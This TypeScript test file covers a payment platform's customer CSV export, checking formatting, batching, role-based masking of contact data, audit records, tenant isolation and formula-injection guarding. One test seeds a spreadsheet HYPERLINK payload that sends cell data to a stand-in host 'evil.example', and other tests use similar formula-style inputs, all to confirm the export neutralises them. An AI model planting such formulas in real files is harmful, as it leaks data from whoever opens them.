import type { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeBackends } from '../../../test/support/backends.js';
import { startTestPaydesk, type TestBrand, type TestPaydesk } from '../../../test/support/harness.js';
import {
  customersApi,
  expectInvalidFields,
  expectProblem,
  newCustomer,
  type CustomerJson,
  type CustomerListJson,
} from '../../../test/support/customers.js';
import { createPaymentLink, paid, pay, payer } from '../../../test/support/payments.js';
import { EXPORT_COLUMNS, exportCustomers } from './customer.export.js';
import { csvLine, formatMajor, neutralizeFormula } from './customer-export.csv.js';
import type { Principal } from '../access/index.js';

type Row = Record<(typeof EXPORT_COLUMNS)[number], string>;

function rowsOf(csv: string): Row[] {
  const [header, ...rest] = parse(csv, { relax_column_count: false }) as string[][];
  expect(header).toEqual([...EXPORT_COLUMNS]);
  return rest.map((cells) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, cells[i]!])) as Row);
}

async function textOf(stream: Readable): Promise<string> {
  let text = '';
  for await (const chunk of stream) text += String(chunk);
  return text;
}

describe('formula guard, money and CSV lines (pure)', () => {
  it('writes a CSV line exactly as csv-stringify does, and csv-parse reads the fields back', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'é', ',', '"', '\n', '\r', ' ', '=', '\t', '😀') }),
      fc.string(),
      fc.integer(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 12 }), (fields) => {
        const line = csvLine(fields);
        expect(line).toBe(stringify([fields]));
        expect(parse(line, { relax_column_count: true })).toEqual([fields.map((f) => (f === null ? '' : String(f)))]);
      }),
      { numRuns: 500 },
    );
  });

  it('prefixes cells a spreadsheet would run, and only those', () => {
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    for (const cell of ['Ayesha', 'a=b', '{"k":"=1"}', '']) expect(neutralizeFormula(cell)).toBe(cell);
  });

  it('writes minor units as major units with the currency’s digits', () => {
    expect(formatMajor(150000, 'BDT')).toBe('1500.00');
    expect(formatMajor(5, 'USD')).toBe('0.05');
    expect(formatMajor(0, 'BDT')).toBe('0.00');
    expect(formatMajor(500, 'JPY')).toBe('500');
    expect(formatMajor(12345, 'BHD')).toBe('12.345');
    expect(formatMajor(-250, 'USD')).toBe('-2.50');
  });
});

describeBackends('customers CSV export (%s)', (backend) => {
  let paydesk: TestPaydesk;
  beforeAll(async () => {
    paydesk = await startTestPaydesk(backend);
  });
  afterAll(() => paydesk?.close());

  const exportAs = (token: string, query = '') =>
    paydesk.request(token, { method: 'GET', url: `/api/v1/customers/export${query ? `?${query}` : ''}` });

  function csvRows(response: LightMyRequestResponse): Row[] {
    expect(response.statusCode, response.body).toBe(200);
    return rowsOf(response.body);
  }

  async function auditOf(brand: TestBrand) {
    return paydesk.rawQuery(
      "SELECT actor_id, target_type, target_id, details FROM audit_events WHERE merchant_id = $1 AND action = 'customers.export' ORDER BY occurred_at",
      [brand.id],
    );
  }

  it("gives an owner every customer once, raw contact, exact totals, as a download that isn't cached", async () => {
    const brand = await paydesk.newBrand({ currency: 'BDT' });
    const plain = await newCustomer(paydesk, brand, {
      phone: '01712345678',
      metadata: { crm_id: 'C-1', tier: 'gold' },
    });
    const link = await createPaymentLink(paydesk, brand, { amount: 150000 });
    const buyer = payer();
    paid(await pay(paydesk, link.url, buyer));
    paid(await pay(paydesk, link.url, buyer));

    const response = await exportAs(brand.token);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const day = new Date().toISOString().slice(0, 10);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="customers-${brand.id}-${day}.csv"`);
    expect(response.headers['cache-control']).toBe('no-store');
    const rows = csvRows(response);
    expect(rows).toHaveLength(2);
    const [paying, first] = rows;
    expect(first).toEqual({
      id: plain.id,
      name: plain.name,
      email: plain.email,
      phone: '+8801712345678',
      source: 'api',
      transactions_count: '0',
      total_spent: '0.00',
      total_spent_minor: '0',
      currency: 'BDT',
      last_payment_at: '',
      created_at: plain.created_at,
      metadata: expect.any(String),
    });
    expect(JSON.parse(first!.metadata)).toEqual({ crm_id: 'C-1', tier: 'gold' });
    expect(paying).toMatchObject({
      email: String(buyer.email).toLowerCase(),
      source: 'payment_link',
      transactions_count: '2',
      total_spent: '3000.00',
      total_spent_minor: '300000',
      currency: 'BDT',
    });
    expect(Number.isNaN(Date.parse(paying!.last_payment_at))).toBe(false);
  });

  it('reads in batches: every customer once, newest first, with or without a search', async () => {
    const brand = await paydesk.newBrand();
    for (let i = 0; i < 11; i++) await newCustomer(paydesk, brand, { name: `Batch Person ${i}` });
    await newCustomer(paydesk, brand, { name: 'Someone Else' });
    const listed = (await customersApi(paydesk, brand.token).list('limit=100')).json<CustomerListJson>();

    const whole = await exportCustomers(paydesk.ctx, brand.principal, {}, { batchSize: 4 });
    const ids = rowsOf(await textOf(whole.csv)).map((r) => r.id);
    expect(ids).toEqual(listed.data.map((c) => c.id));

    const searched = await exportCustomers(paydesk.ctx, brand.principal, { q: 'batch' }, { batchSize: 3 });
    const found = rowsOf(await textOf(searched.csv));
    expect(found).toHaveLength(11);
    expect(new Set(found.map((r) => r.id)).size).toBe(11);
    expect(found.every((r) => r.name.startsWith('Batch Person'))).toBe(true);
  });

  it('writes the same file whether batches are decrypted in worker threads or in one batch here, for raw and masked roles', async () => {
    const brand = await paydesk.newBrand({ currency: 'BDT' });
    for (let i = 0; i < 7; i++) {
      await newCustomer(paydesk, brand, {
        name: i === 3 ? '=Formula Ayşe' : `Wörker Person ${i}`,
        phone: i % 2 === 0 ? `0171234567${i}` : undefined,
        metadata: { n: String(i), note: 'a "quoted", comma' },
      });
    }
    const link = await createPaymentLink(paydesk, brand, { amount: 150000 });
    paid(await pay(paydesk, link.url, payer()));
    const viewer: Principal = { ...brand.principal, role: 'viewer' };
    for (const principal of [brand.principal, viewer]) {
      // One batch of 100 stays on this thread; batches of 2 after the first go to the worker pool.
      const inline = await textOf((await exportCustomers(paydesk.ctx, principal, {}, { batchSize: 100 })).csv);
      const pooled = await textOf((await exportCustomers(paydesk.ctx, principal, {}, { batchSize: 2 })).csv);
      expect(rowsOf(inline)).toHaveLength(8);
      expect(pooled).toBe(inline);
    }
    const masked = rowsOf(await textOf((await exportCustomers(paydesk.ctx, viewer, {}, { batchSize: 2 })).csv));
    expect(masked.every((r) => r.email.includes('•'))).toBe(true);
    expect(masked.filter((r) => r.phone !== '').every((r) => r.phone.includes('•'))).toBe(true);
  });

  it('gives a masked role no raw email or phone of any customer, and audits masked true/false', async () => {
    const brand = await paydesk.newBrand();
    const customers: CustomerJson[] = [];
    for (let i = 0; i < 5; i++) customers.push(await newCustomer(paydesk, brand, { phone: `0171234560${i}` }));
    const viewer = await paydesk.keyFor(brand, 'viewer');

    const response = await exportAs(viewer);
    const rows = csvRows(response);
    expect(rows).toHaveLength(5);
    for (const customer of customers) {
      expect(response.body).not.toContain(customer.email);
      expect(response.body).not.toContain(customer.phone!);
      expect(response.body).not.toContain(customer.phone!.slice(1));
    }
    for (const row of rows) {
      expect(row.email).toContain('•');
      expect(row.phone).toContain('•');
    }

    csvRows(await exportAs(brand.token, 'created_gte=2000-01-01T00:00:00Z'));
    const audit = await auditOf(brand);
    expect(audit).toEqual([
      {
        actor_id: expect.any(String),
        target_type: 'brand',
        target_id: brand.id,
        details: { masked: true, filtered: false },
      },
      {
        actor_id: expect.any(String),
        target_type: 'brand',
        target_id: brand.id,
        details: { masked: false, filtered: true },
      },
    ]);
  });

  it('filters by q like the list does, and never records the search text', async () => {
    const brand = await paydesk.newBrand();
    await newCustomer(paydesk, brand, { name: 'Nusrat Jahan' });
    await newCustomer(paydesk, brand, { name: 'Nusrat Karim' });
    await newCustomer(paydesk, brand, { name: 'Tanvir Hasan' });
    const listed = (await customersApi(paydesk, brand.token).list('q=nusrat&limit=100')).json<CustomerListJson>();
    expect(listed.data).toHaveLength(2);

    const rows = csvRows(await exportAs(brand.token, 'q=nusrat'));
    expect(rows.map((r) => r.id)).toEqual(listed.data.map((c) => c.id));
    expect(JSON.stringify(await auditOf(brand))).not.toContain('nusrat');
  });

  it('filters by creation time, [created_gte, created_lt), and names a bad bound', async () => {
    const brand = await paydesk.newBrand();
    const [old, mid, recent] = [
      await newCustomer(paydesk, brand),
      await newCustomer(paydesk, brand),
      await newCustomer(paydesk, brand),
    ];
    const at = {
      [old.id]: '2024-01-15T00:00:00Z',
      [mid.id]: '2025-01-15T00:00:00Z',
      [recent.id]: '2026-01-15T00:00:00Z',
    };
    for (const [id, time] of Object.entries(at)) {
      await paydesk.rawQuery('UPDATE customers SET created_at = $1 WHERE merchant_id = $2 AND id = $3', [
        time,
        brand.id,
        id,
      ]);
    }
    const idsOf = async (query: string) => csvRows(await exportAs(brand.token, query)).map((r) => r.id);
    expect(await idsOf('created_gte=2025-01-01T00:00:00Z')).toEqual([recent.id, mid.id]);
    expect(await idsOf('created_lt=2025-01-15T00:00:00Z')).toEqual([old.id]);
    expect(await idsOf('created_gte=2025-01-15T00:00:00Z&created_lt=2026-01-01T00:00:00%2B06:00')).toEqual([mid.id]);
    expect(await idsOf('q=customer&created_gte=2025-01-01T00:00:00Z&created_lt=2026-01-01T00:00:00Z')).toEqual([
      mid.id,
    ]);

    expectInvalidFields(await exportAs(brand.token, 'created_gte=yesterday'), ['created_gte']);
    expectInvalidFields(await exportAs(brand.token, 'created_gte=2025-13-01T00:00:00Z&created_lt=soon'), [
      'created_gte',
      'created_lt',
    ]);
    await expect(exportCustomers(paydesk.ctx, brand.principal, { created_lt: '2025-02-30' })).rejects.toMatchObject({
      code: 'validation_failed',
      extra: { errors: [{ field: 'created_lt', reason: expect.any(String) }] },
    });
    expect(await auditOf(brand)).toHaveLength(4);
  });

  it("never shows another brand's customers, and refuses a role without customers.read", async () => {
    const mine = await paydesk.newBrand();
    const theirs = await paydesk.newBrand();
    const own = await newCustomer(paydesk, mine, { name: 'Shared Name' });
    const other = await newCustomer(paydesk, theirs, { name: 'Shared Name' });

    for (const query of ['', 'q=shared', `q=${encodeURIComponent(other.email)}`]) {
      const response = await exportAs(mine.token, query);
      const ids = csvRows(response).map((r) => r.id);
      expect(ids).not.toContain(other.id);
      expect(response.body).not.toContain(other.email);
    }
    expect(csvRows(await exportAs(mine.token)).map((r) => r.id)).toEqual([own.id]);

    expectProblem(await exportAs(await paydesk.keyFor(mine, 'developer')), 403, 'forbidden');
    expectProblem(await exportAs('pd_test_not_a_key'), 401, 'unauthenticated');
    expect(await auditOf(mine)).toHaveLength(4); // refused requests are not exports
  });

  it('neutralises formula-looking text cells, and leaves phones and numbers alone', async () => {
    const brand = await paydesk.newBrand();
    const name = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    await newCustomer(paydesk, brand, { name, phone: '+8801712345678', metadata: { note: '=1+1' } });
    await newCustomer(paydesk, brand, { name: '@SUM(1+1)' });
    await newCustomer(paydesk, brand, { name: '-2+3' });

    const rows = csvRows(await exportAs(brand.token));
    expect(rows.map((r) => r.name)).toEqual(["'-2+3", "'@SUM(1+1)", `'${name}`]);
    expect(rows[2]).toMatchObject({ phone: '+8801712345678', metadata: '{"note":"=1+1"}', total_spent: '0.00' });
  });

  it('is its own route, not a customer id, and the customer routes still answer', async () => {
    const brand = await paydesk.newBrand();
    const customer = await newCustomer(paydesk, brand);
    const response = await exportAs(brand.token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect((await customersApi(paydesk, brand.token).get(customer.id)).statusCode).toBe(200);
    expectProblem(await customersApi(paydesk, brand.token).get('cus_export'), 404, 'customer_not_found');
  });
});
